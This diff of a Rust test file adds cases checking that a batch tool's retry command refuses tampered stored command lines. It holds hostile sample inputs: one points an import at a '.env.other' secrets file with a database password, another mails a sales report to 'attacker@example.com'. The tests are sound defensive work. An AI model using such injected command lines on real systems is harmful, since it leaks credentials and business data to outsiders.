@@ -440,8 +440,22 @@ fn a_stored_line_uses_only_files_that_batchctl_stored_with_it(shop: &TradingShop
     shop.execute(&format!("UPDATE batch_execution SET command_line = '{line}'"));
     retry().run().exits(77).says("nothing proves that batchctl stored it").says("runs show 1");
     assert!(!elsewhere.exists());
+    // The settings beside the data are not data: an error would quote them.
+    shop.write(".env.other", "DB_PASSWORD=hunter2\n");
+    let reading = "data import --kind orders --mall tokyo .env.other";
+    shop.execute(&format!("UPDATE batch_execution SET job = 'data import', command_line = '{reading}'"));
+    retry().run().exits(77).says("names the file `").never_shows("hunter2");
+    shop.execute("UPDATE batch_execution SET job = 'report daily-sales'");
+    // Nor is anything mailed to whom a stranger wants it sent.
+    let mailed = "report daily-sales --date 2026-11-19 --format csv --mail-to attacker@example.com";
+    shop.execute(&format!("UPDATE batch_execution SET command_line = '{mailed}'"));
+    retry().run().exits(77).says("mails something to `attacker@example.com`");
+    assert_eq!(shop.scalar("SELECT COUNT(*) FROM mails"), "0");
+    shop.execute(&format!("UPDATE batch_execution SET command_line = '{line}'"));
     // Typed by the operator, and in batchctl's own folder, it is used.
     let typed = ["runs", "retry", "1", "--rerun", "--", "--out", out];
+    shop.batchctl(typed).env("BATCHCTL_SECRET_KEY", key).run().succeeds();
+    let typed = ["runs", "retry", "1", "--rerun", "--", &format!("--out={out}=1")];
     shop.batchctl(typed).env("BATCHCTL_SECRET_KEY", key).run().succeeds();
     shop.execute("UPDATE batch_execution SET command_line = 'report daily-sales --date 2026-11-19 --format csv --out here'");
     retry().run().succeeds();
